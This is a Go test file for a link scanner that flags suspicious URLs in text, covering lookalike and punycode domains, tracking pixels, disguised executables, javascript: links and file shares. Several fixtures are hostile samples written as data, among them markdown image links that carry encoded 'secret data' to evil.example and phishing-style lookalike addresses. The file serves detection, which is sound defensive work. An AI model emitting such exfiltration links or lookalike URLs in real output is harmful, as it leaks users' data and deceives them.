package link

import (
	"strings"
	"testing"
)

func TestScan(t *testing.T) {
	for _, c := range []struct {
		text, whole, address, host string
		image                      bool
		signs                      Signs
	}{
		{"see https://example.com/a.", "https://example.com/a.", "https://example.com/a.", "example.com", false, 0},
		{"![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=) more", "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=)", "https://evil.example/p.png?d=c2VjcmV0IGRhdGE=", "evil.example", true, Data},
		{"a [b [c]](https://e.example 'title') d", "[b [c]](https://e.example 'title')", "https://e.example", "e.example", false, 0},
		{`x <img alt=1 src="https://e.example/?q=12345678"> y`, `<img alt=1 src="https://e.example/?q=12345678">`, "https://e.example/?q=12345678", "e.example", true, Data},
		{`<a href='http://e.example/setup.exe'>`, `<a href='http://e.example/setup.exe'>`, "http://e.example/setup.exe", "e.example", false, Executable},
		{"[r]: https://e.example/x", "https://e.example/x", "https://e.example/x", "e.example", true, 0},
		{"[x](javascript:alert(1))", "[x](javascript:alert(1)", "javascript:alert(1", "", false, Script},
		{"http://bank.example@evil.example/", "http://bank.example@evil.example/", "http://bank.example@evil.example/", "evil.example", false, Credentials | Dressed},
		{"https://jo.hill:pw@git.example/x", "https://jo.hill:pw@git.example/x", "https://jo.hill:pw@git.example/x", "git.example", false, Credentials},
		{"http://0x7f.1/", "http://0x7f.1/", "http://0x7f.1/", "0x7f.1", false, Numeric | OddNumeric},
		{"https://p\u0430ypal.example/", "https://p\u0430ypal.example/", "https://p\u0430ypal.example/", "p\u0430ypal.example", false, Mixed},
		{"https://xn--pypal-4ve.example/", "https://xn--pypal-4ve.example/", "https://xn--pypal-4ve.example/", "xn--pypal-4ve.example", false, Punycode | Mixed},
		{"https://xn--mller-kva.example/", "https://xn--mller-kva.example/", "https://xn--mller-kva.example/", "xn--mller-kva.example", false, Punycode},
		{"https://www.\u0430\u0440\u0440\u04cf\u0435.com/x", "https://www.\u0430\u0440\u0440\u04cf\u0435.com/x", "https://www.\u0430\u0440\u0440\u04cf\u0435.com/x", "www.\u0430\u0440\u0440\u04cf\u0435.com", false, Mixed},
		{"https://m\u00fcller.example/", "https://m\u00fcller.example/", "https://m\u00fcller.example/", "m\u00fcller.example", false, 0},
		{"https://www.paypa1.com/x", "https://www.paypa1.com/x", "https://www.paypa1.com/x", "www.paypa1.com", false, Lookalike},
		{"https://rnicrosoft.com", "https://rnicrosoft.com", "https://rnicrosoft.com", "rnicrosoft.com", false, Lookalike},
		{"https://paypal.com.account.example/", "https://paypal.com.account.example/", "https://paypal.com.account.example/", "paypal.com.account.example", false, Lookalike},
		{"https://amazon.com.br/", "https://amazon.com.br/", "https://amazon.com.br/", "amazon.com.br", false, 0},
		{`https:\\evil.example\x`, `https:\\evil.example\x`, `https:\\evil.example\x`, "evil.example", false, Slashes},
		{`url = https:\/\/e.example\/x;`, `https:\/\/e.example\/x;`, `https:\/\/e.example\/x;`, "e.example", false, 0},
		{"see hxxps://evil[.]example/pay now", "hxxps://evil[.]example/pay", "hxxps://evil[.]example/pay", "evil.example", false, Defanged},
		{"[https://www.bank.example/in](https://e.example/in)!", "[https://www.bank.example/in](https://e.example/in)", "https://e.example/in", "e.example", false, Mismatch},
		{"[www.bank.example](https://login.bank.example/in)", "[www.bank.example](https://login.bank.example/in)", "https://login.bank.example/in", "login.bank.example", false, 0},
		{`<img src="http://e.example/x?c=abc" width=1 height="1">`, `<img src="http://e.example/x?c=abc" width=1 height="1">`, "http://e.example/x?c=abc", "e.example", true, Tracker},
		{`{\"q\":\"\u003cimg src=\\\"http://e.example/x?c=abc\\\" width=1 height=1\u003e\"}`, `\u003cimg src=\\\"http://e.example/x?c=abc\\\" width=1 height=1\u003e`, `http://e.example/x?c=abc\\\`, "e.example", true, Tracker},
		{`<img src="http://e.example/x" width=100 height=10>`, `<img src="http://e.example/x" width=100 height=10>`, "http://e.example/x", "e.example", true, 0},
		{`<iframe src="//e.example/a"></iframe>`, `<iframe src="//e.example/a">`, "//e.example/a", "e.example", true, 0},
		{"![x](//e.example/a.png?d=0123456789) y", "![x](//e.example/a.png?d=0123456789)", "//e.example/a.png?d=0123456789", "e.example", true, Data},
		{"https://e.example/invoice.pdf.exe", "https://e.example/invoice.pdf.exe", "https://e.example/invoice.pdf.exe", "e.example", false, Executable | Dressed},
		{"https://e.example/tour.lnk", "https://e.example/tour.lnk", "https://e.example/tour.lnk", "e.example", false, Executable | Dropper},
		{"[plans](file://files.example/a.doc)", "[plans](file://files.example/a.doc)", "file://files.example/a.doc", "files.example", false, Local | Share},
		{"[plans](file:///home/a.doc)", "[plans](file:///home/a.doc)", "file:///home/a.doc", "", false, Local},
		{"[plans](file://C:/a.doc)", "[plans](file://C:/a.doc)", "file://C:/a.doc", "C", false, Local},
		{"done. [ ](https://e.example/x?who=0123456789)", "[ ](https://e.example/x?who=0123456789)", "https://e.example/x?who=0123456789", "e.example", false, Data | Blank},
		{"done. [\u200b](https://e.example/x)", "[\u200b](https://e.example/x)", "https://e.example/x", "e.example", false, Blank},
		{"https://e.example/doc\u202efdp.exe", "https://e.example/doc\u202efdp.exe", "https://e.example/doc\u202efdp.exe", "e.example", false, Executable | Unseen},
		{"java\tscript:alert(1) x", "java\tscript:alert(1)", "java\tscript:alert(1)", "", false, Script},
		{"<https://e.example/a>", "https://e.example/a", "https://e.example/a", "e.example", false, 0},
		{"![x](https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png)", "![x](https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png)", "https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png", "e.example", true, Data},
	} {
		all := Scan([]byte(c.text), 0, nil)
		inner := 0 // in the text of the link
		if c.signs&Mismatch != 0 {
			inner = 1
		}
		if len(all) != 1+inner {
			t.Errorf("%q has %d links", c.text, len(all))
			continue
		}
		l := all[inner]
		if got := c.text[l.Start:l.End]; got != c.whole {
			t.Errorf("%q: whole %q", c.text, got)
		}
		if got := c.text[l.From:l.To]; got != c.address {
			t.Errorf("%q: address %q", c.text, got)
		}
		if string(l.Host) != c.host || l.Image != c.image || l.Signs != c.signs {
			t.Errorf("%q: host %q, image %v, signs %b", c.text, l.Host, l.Image, l.Signs)
		}
	}
	for _, text := range []string{"", ":", "a: b", "JavaScript: the good parts", "12:30", "data: none", "mailto:a@b.example", "x::y", "://", "[a](b)",
		"// a comment", "x = 'a'//b", "a = b //c", "src//x", `C:\\dir\x`, "no javascript: at all", "hxxp", "see [.] there"} {
		if all := Scan([]byte(text), 0, nil); len(all) > 0 {
			t.Errorf("%q: %+v", text, all)
		}
	}
}

// What Open lets go can be no part of a link that a later byte completes.
func TestOpen(t *testing.T) {
	for text, want := range map[string]string{
		"plain words": "", "see https://e": "https://e", "a [b": "[b", "a ![b](https://e": "![b](https://e", "done [1] and": "", "[x](y) z": "", "x <img sr": "<img sr", "a < b": "",
		"at 12:30": "", "note: ": "", "a ![b]": "![b]", "see [1]": "[1]", "<b>bold</b> t": "", "http": "http", "a h": "h", "the date": "", "words": "", "hxxps": "hxxps", "httpsx": "",
	} {
		if got := text[Open([]byte(text), 0):]; got != want {
			t.Errorf("%q holds %q, want %q", text, got, want)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add([]byte("![x](https://a.example/?d=1) <img src='http://b/'>"), 0)
	f.Add([]byte("[a](javascript:x) ]( :// <a href=http://[::1]/"), 3)
	f.Fuzz(func(t *testing.T, text []byte, from int) {
		if from < 0 || from > len(text) {
			from = 0
		}
		last := from
		for _, l := range Scan(text, from, nil) {
			if l.Start < from || l.Start > l.From || l.From >= l.To || l.To > l.End || l.End > len(text) {
				t.Fatalf("%+v of %d bytes from %d", l, len(text), from)
			}
			last = l.End
		}
		if o := Open(text, from); o < from || o > len(text) {
			t.Fatalf("open at %d", o)
		}
		_ = last
	})
}

// A long line of brackets and colons costs no more than its length times a constant.
func TestHostile(t *testing.T) {
	for _, unit := range []string{"[", "](", "<", ":", "http://", "![a](http://x", "<img src=http://x ", "java\t", "hxxp://[.]", "(//a", "https://a.com.", "xn--a.", "src=//a"} {
		text := []byte(strings.Repeat(unit, 64<<10/len(unit)))
		Scan(text, 0, nil)
		Open(text, 0)
	}
}

// The examples of RFC 3492, section 7.1, and labels that are none.
func TestPunycode(t *testing.T) {
	for label, want := range map[string]string{
		"egbpdaj6bu4bxfgehfvwxn":   "\u0644\u064a\u0647\u0645\u0627\u0628\u062a\u0643\u0644\u0645\u0648\u0634\u0639\u0631\u0628\u064a\u061f",
		"ihqwcrb4cv8a8dqg056pqjye": "\u4ed6\u4eec\u4e3a\u4ec0\u4e48\u4e0d\u8bf4\u4e2d\u6587", "MajiKoi5-783gue6qz075azm5e": "Maji\u3067Koi\u3059\u308b5\u79d2\u524d",
		"-> $1.00 <--": "-> $1.00 <-", "mller-kva": "m\u00fcller", "80ak6aa92e": "\u0430\u0440\u0440\u04cf\u0435",
	} {
		if got, ok := punycode([]byte(label)); !ok || string(got) != want {
			t.Errorf("%s: %q, want %q", label, got, want)
		}
	}
	for _, label := range []string{"9", "zzzzzzzzzzzzzzzzzz", "a-\xff", strings.Repeat("a", 64)} {
		if got, ok := punycode([]byte(label)); ok {
			t.Errorf("%s: %q", label, got)
		}
	}
}
